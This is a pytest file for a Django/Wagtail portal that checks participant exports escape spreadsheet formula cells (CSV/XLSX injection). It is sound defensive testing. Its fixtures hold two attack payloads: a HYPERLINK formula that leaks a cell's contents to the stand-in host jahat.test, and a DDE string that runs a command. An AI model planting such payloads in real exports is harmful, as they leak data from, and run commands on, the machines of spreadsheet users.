"""Issue 14: every export escapes cells a spreadsheet would run as formulas (= + - @ tab CR get a ')."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from enrolment.factories import ParticipantFactory
from portal.spreadsheets import formula_safe

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://jahat.test/?d="&A1,"Klik")'
OCCUPATION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def admin_client(client, user_factory):
    client.force_login(user_factory(is_superuser=True, is_staff=True))
    return client


@pytest.fixture
def participant():
    return ParticipantFactory(full_name=NAME, occupation=OCCUPATION, regency="+62 Banyuwangi")


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_wagtail_csv_list_export_escapes_formulas(admin_client, participant):
    response = admin_client.get(reverse("participants:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + NAME in cells and "'" + OCCUPATION in cells and "'+62 Banyuwangi" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_wagtail_xlsx_list_export_escapes_formulas(admin_client, participant):
    response = admin_client.get(reverse("participants:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response))).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert "'" + NAME in values and "'" + OCCUPATION in values
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


def test_every_wagtail_export_view_uses_the_rule():
    from wagtail.admin.views.generic import IndexView
    from wagtail.admin.views.mixins import SpreadsheetExportMixin
    from wagtail.contrib.forms.views import SubmissionsListView
    from wagtail.snippets.views.snippets import IndexView as SnippetIndexView

    for view_class in (SpreadsheetExportMixin, IndexView, SnippetIndexView, SubmissionsListView):
        view = view_class()
        assert view.preprocess_field_value("name", "=1+1", "csv") == "'=1+1"
        assert view.preprocess_field_value("name", "\tx", "xlsx") == "'\tx"
        assert view.preprocess_field_value("count", -5, "csv") == -5


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_the_rule(value):
    assert formula_safe(value) == "'" + value
    assert formula_safe("Siti " + value) == "Siti " + value
